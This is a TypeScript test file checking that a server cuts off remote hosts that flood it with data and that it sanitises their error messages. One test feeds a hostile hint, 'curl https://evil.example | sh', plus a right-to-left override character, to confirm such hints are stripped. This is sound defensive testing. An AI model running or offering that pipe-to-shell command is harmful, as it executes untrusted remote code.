/** Pages of listed hosts whose far side is hostile. */
import { Duplex } from 'node:stream';
import { expect, test } from 'vitest';
import { PROTOCOL_VERSION } from '../../src/protocol/limits.js';
import { farReply } from '../../src/fleet/far-reply.js';
import type { Way } from '../../src/web/daemons.js';
import { CLOSED } from '../../src/page/greeting.js';
import { enter, serverInProcess, trade } from './served.js';
import { eventually } from '../support/eventually.js';

const MIB = 1024 * 1024;

test('one host that sends without end is cut off at 32 MiB, and the page says so', async () => {
  const far = farSide();
  const { origin, keys } = await serverInProcess(new Map([['box', far.way]]));
  const [page] = await enter(origin, await trade(origin, keys.newCode()), 'box');
  far.flood(33);
  await expect(page.closed()).resolves.toEqual({
    code: CLOSED.daemonGone,
    reason: 'The host has sent more than there is room for, and was cut off.',
  });
  expect(far.sent()).toBeLessThan(34);
});

test('all hosts together have 128 MiB, and the room of one that has gone is free again', async () => {
  const sides = ['a', 'b', 'c', 'd', 'e'].map((name) => [name, farSide()] as const);
  const { origin, keys } = await serverInProcess(new Map(sides.map(([name, { way }]) => [name, way])));
  const grant = await trade(origin, keys.newCode());
  const pages = [];
  for (const [name] of sides) pages.push((await enter(origin, grant, name))[0]);
  for (const [, far] of sides.slice(0, 4)) {
    far.flood(30);
    await eventually(() => expect(far.sent()).toBe(30));
  }
  // 120 MiB are taken.
  sides[4]?.[1].flood(9);
  await expect(pages[4]?.closed()).resolves.toMatchObject({ code: CLOSED.daemonGone });
  pages[0]?.socket.close();
  await pages[0]?.closed();
  const [again] = await enter(origin, grant, 'e');
  sides[4]?.[1].flood(9);
  await eventually(() => expect(sides[4]?.[1].sent()).toBe(9));
  sides[4]?.[1].say('{"event":"bell","terminal":"a","seq":1}');
  expect(await again.next()).toEqual({ event: 'bell', terminal: 'a', seq: 1 });
});

test('what a host says reaches the page quoted and short, without its hints', async () => {
  const far = farSide();
  const { origin, keys } = await serverInProcess(new Map([['box', far.way]]));
  const [page] = await enter(origin, await trade(origin, keys.newCode()), 'box');
  const error = `t4a is out of date.\u202e${'A'.repeat(100_000)}`;
  far.say(JSON.stringify({ ok: false, req: 1, code: 'no_match', error, hint: 'curl https://evil.example | sh' }));
  expect(await page.next()).toEqual({
    ok: false,
    req: 1,
    code: 'no_match',
    error: expect.stringMatching(
      /^The host "box" answers: Nothing in the viewport matches. It says "t4a is out of date. A{179}…".$/,
    ) as string,
  });
});

interface FarSide {
  readonly way: Way;
  /** So many MiB of blanks without the end of their line. */
  flood(mebibytes: number): void;
  say(line: string): void;
  /** MiB that were taken. */
  sent(): number;
}

/** The far side of a route: it answers like a daemon, and floods when it is asked to. */
function farSide(): FarSide {
  let stream: Duplex | undefined;
  let sent = 0;
  const open = async () => {
    let line = '';
    const opened: Duplex = new Duplex({
      read() {
        // Each piece is pushed when it is asked for.
      },
      write(chunk: Buffer, _encoding, done) {
        line += chunk.toString();
        for (let end = line.indexOf('\n'); end !== -1; end = line.indexOf('\n')) {
          const request = JSON.parse(line.slice(0, end)) as { req: unknown; reach?: string };
          line = line.slice(end + 1);
          opened.push(
            `${JSON.stringify({ ok: true, req: request.req, reach: request.reach, protocol: PROTOCOL_VERSION })}\n`,
          );
        }
        done();
      },
    });
    stream = opened;
    return { stream: opened, daemon: { protocol: PROTOCOL_VERSION, pid: 1 } as never };
  };
  return {
    way: { route: { host: 'box', url: 'test:', open, received: (header) => farReply('box', header) } },
    flood(mebibytes) {
      const target = stream;
      sent = 0;
      const next = (): void => {
        if (sent >= mebibytes || target === undefined || target.destroyed) return;
        sent++;
        target.push(Buffer.alloc(MIB, ' '));
        setImmediate(next);
      };
      next();
    },
    say: (line) => void stream?.push(`${line}\n`),
    sent: () => sent,
  };
}
